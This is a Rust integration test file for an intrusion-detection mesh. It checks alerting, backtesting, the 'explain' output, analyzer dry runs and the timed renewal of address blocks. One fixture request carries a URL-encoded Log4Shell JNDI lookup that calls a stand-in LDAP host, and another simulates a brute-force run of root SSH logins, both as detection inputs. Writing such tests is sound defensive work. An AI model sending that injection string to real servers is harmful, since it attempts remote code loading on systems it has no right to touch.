//! What any patrol finds becomes an alert: requests and logins, from a publisher's body to the
//! subject that people subscribe to.
#![allow(
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test reports by panicking"
)]

use magsentinel_bus_schema::{Action, Alert, OutcomeStatus, Status, Stream, Verb, subject};
use magsentinel_tests::{
    Mesh, held, keyed::injection_from, next, repository, responses::outcomes, wait_for,
};
use serde_json::json;
use std::{
    collections::BTreeSet,
    time::{Duration, Instant},
};

#[tokio::test(flavor = "multi_thread")]
async fn an_attack_by_request_and_one_by_login_are_alerted_and_ordinary_ones_are_not() {
    let mesh = Mesh::with(&["sensor", "api-watch", "auth-sentry", "analyzer"]).await;
    let client = mesh.client().await;
    let mut alerts = client.subscribe("mag.default.alert.>").await.unwrap();
    client.flush().await.unwrap();

    let request = |from: &str, path: &str, query: &str| {
        json!({
            "client": from, "method": "GET", "path": path, "query": query, "status": 200,
            "headers": {"host": "shop.example.com", "user-agent": "Mozilla/5.0 Firefox/128.0"},
        })
    };
    let login = |n: u32, event: &str, user: &str, from: &str| {
        json!({
            "ts": 1_764_000_000 + n * 2, "host": "web1", "service": "sshd", "event": event,
            "user": user, "src_ip": from, "session": format!("sshd[{n}]"),
        })
    };
    let ordinary = request("192.0.2.10", "/products/17", "sort=price");
    let attack = request("203.0.113.7", "/search", "q=%24%7Bjndi:ldap://198.51.100.1/a%7D");
    mesh.ingest("api", format!("{ordinary}\n{attack}")).await;
    let mut logins: Vec<String> =
        (0..30).map(|n| login(n, "failed_password", "root", "203.0.113.8").to_string()).collect();
    logins.push(login(40, "accepted_password", "anne", "192.0.2.11").to_string());
    mesh.ingest("auth", logins.join("\n")).await;

    let wanted = [("login_attack", "203.0.113.8"), ("web_attack", "203.0.113.7")]
        .map(|(attack, key)| (attack.to_owned(), key.to_owned()));
    // Others may come before these: of many findings of one address, that they are mixed.
    let mut seen = BTreeSet::new();
    let mut guessed = None;
    while !wanted.iter().all(|pair| seen.contains(pair)) {
        let alert: Alert = next(&mut alerts).await;
        assert_ne!(alert.status, Status::Closed, "{alert:?}");
        assert!(!["192.0.2.10", "192.0.2.11", "anne"].contains(&alert.key.as_str()), "{alert:?}");
        assert!(wanted.iter().any(|(_, key)| *key == alert.key), "{alert:?}");
        let attack = alert.attack_type.to_string();
        guessed = attack.starts_with("login_attack").then_some(alert.id).or(guessed);
        seen.insert((attack.trim_end_matches("_repeated").to_owned(), alert.key));
    }
    explained(&mesh, &guessed.unwrap().to_string());
    tried_again(&mesh);
}

/// `backtest` finds what the mesh found, and what a changed chain would have made of it.
fn tried_again(mesh: &Mesh) {
    let ask = |more: &[&str]| {
        let args = [&["backtest", "--output", "json"], more].concat();
        let told: serde_json::Value = serde_json::from_slice(&mesh.output(&args).stdout).unwrap();
        told
    };
    let same = ask(&[]);
    assert_eq!(same["chains"]["web_attack"], json!({"did": 1, "would": 1, "both": 1}), "{same}");
    let shipped = repository().join("analyzer/chains/web_attack.yml");
    let blind = std::fs::read_to_string(shipped).unwrap().replace("api-watch", "sql-guard");
    let file = mesh.dir().join("blind.yml");
    std::fs::write(&file, blind).unwrap();
    let told = ask(&["--chains", file.to_str().unwrap()]);
    assert_eq!(told["chains"]["web_attack"], json!({"did": 1, "would": 0, "both": 0}), "{told}");
    assert_eq!(told["fewer"][0]["key"], "203.0.113.7");
    let none = ask(&["--to", "2020-01-01T00:00:00Z"]);
    assert_eq!(none["chains"], json!({}));
}

/// `explain` says the same of an alert by its id and of its key, and why there is none.
fn explained(mesh: &Mesh, id: &str) {
    let ask = |args: &[&str]| {
        let told = mesh.output(&[&["explain"], args].concat());
        (told.status.code(), String::from_utf8(told.stdout).unwrap(), told.stderr)
    };
    let at = ["--at", "1764000030"];
    let (_, by_id, _) = ask(&[id.get(..12).unwrap()]);
    assert!(by_id.contains("found  login_attack") && by_id.contains(id), "{by_id}");
    let (_, by_key, _) = ask(&[&["--class", "client", "--key", "203.0.113.8"], &at[..]].concat());
    // What was decided comes first, with the events that it rests on.
    assert!(by_id.starts_with("decided  login_attack: ") && by_id.contains(": event "), "{by_id}");
    assert!(by_id.ends_with(&by_key), "{by_id}\n{by_key}");
    let (_, of_user, _) = ask(&[&["--key", "root"], &at[..]].concat());
    assert!(of_user.contains("quiet  brute_force_takeover: 1 of 2 steps"), "{of_user}");
    // Her login was scored, but nothing was found in it.
    let (code, _, error) = ask(&[&["--key", "anne"], &at[..]].concat());
    assert_eq!(code, Some(65), "{}", String::from_utf8_lossy(&error));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_analyzer_says_what_it_would_make_of_scored_events_and_does_nothing() {
    let mesh = Mesh::with(&["analyzer"]).await;
    let client = mesh.client().await;
    let mut alerts = client.subscribe("mag.default.alert.>").await.unwrap();
    let scored = |n: u8, patrol: &str, kind: &str, category: &str| {
        json!({
            "id": format!("00000000-0000-4000-8000-0000000000a{n}"),
            "event": format!("00000000-0000-4000-8000-0000000000e{n}"),
            "seq": n, "tenant": "default", "kind": kind, "patrol": patrol, "level": "medium",
            "ts": 1_764_000_000_000_000_i64 + i64::from(n) * 1_000_000, "score": 0.7,
            "confidence": 0.8, "category": category,
            "entities": [{"class": "user", "value": "anne", "trust": "observed"}],
        })
    };
    let asked = json!({"scored": [
        scored(1, "sql-guard", "sql", "union_injection"),
        scored(2, "data-flow", "data", "bulk_read"),
    ]});
    let ask = async |payload: String| {
        let mut headers = async_nats::HeaderMap::new();
        headers.insert("Content-Type", "application/json");
        let subject = "mag.default.analyze";
        client.request_with_headers(subject, headers, payload.into()).await.unwrap()
    };
    let told = ask(asked.to_string()).await;
    let told: serde_json::Value = serde_json::from_slice(&told.payload).unwrap();
    let [found] = told["assessments"].as_array().unwrap().as_slice() else { panic!("{told}") };
    assert_eq!(found["chain"], "sql_injection_exfiltration", "{told}");
    assert_eq!((&found["level"], &found["key"]), (&json!("critical"), &json!("anne")));

    let refused = ask("{\"scored\": 7}".to_owned()).await;
    let headers = refused.headers.unwrap();
    assert_eq!(headers.get("Nats-Service-Error-Code").unwrap().as_str(), "400");
    assert!(headers.get("Nats-Service-Error").unwrap().as_str().contains("JSON"));
    client.flush().await.unwrap();
    let alert =
        tokio::time::timeout(std::time::Duration::ZERO, futures::StreamExt::next(&mut alerts));
    assert!(alert.await.is_err(), "it published something");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_blocked_stays_blocked_for_as_long_as_the_attack_goes_on() {
    let mut mesh = Mesh::new();
    let set = |settings: &[&'static str]| -> Vec<&'static str> {
        settings.iter().flat_map(|setting| ["--set", *setting]).collect()
    };
    let mode = "analyzer.action.mode=enforce";
    mesh.start("analyzer", &set(&[mode, "analyzer.action.ttl=6s", "analyzer.update_every=1s"]));
    let enforcing = ["responder.policy.mode=enforce", "responder.decisions.enabled=true"];
    mesh.start(
        "responder",
        &set(&[enforcing[0], enforcing[1], "responder.evidence.enabled=false"]),
    );
    mesh.ready().await;
    let bus = mesh.bus().await;
    // Three times as long as an action holds.
    let mut pace = tokio::time::interval(Duration::from_millis(500));
    let begun = Instant::now();
    let mut sent = 0;
    while begun.elapsed() < Duration::from_secs(18) {
        pace.tick().await;
        let one = injection_from(&format!("attack {sent}"), "ann", Some("203.0.113.77"));
        bus.publish_all(&[one]).await.unwrap();
        sent += 1;
    }
    let all: Vec<Action> =
        held(&bus, Stream::Decisions, subject::all_of(bus.tenant(), "action")).await;
    let asked: Vec<&Action> =
        all.iter().filter(|action| action.effect.verb() == Verb::BlockAddress).collect();
    let ids: BTreeSet<_> = asked.iter().map(|action| action.id).collect();
    assert!(ids.len() == 1 && (4..=8).contains(&asked.len()), "{asked:?}");
    let of = asked[0].id;
    let told = outcomes(&bus, of).await;
    let times = |status| told.iter().filter(|outcome| outcome.status == status).count();
    assert_eq!((times(OutcomeStatus::Applied), times(OutcomeStatus::Reverted)), (1, 0), "{told:?}");
    assert!(times(OutcomeStatus::Renewed) >= 3, "{told:?}");
    // And it ends with the attack.
    wait_for("the address to be admitted again", async || {
        let told = outcomes(&bus, of).await;
        told.iter().any(|outcome| outcome.status == OutcomeStatus::Reverted).then_some(())
    })
    .await;
}
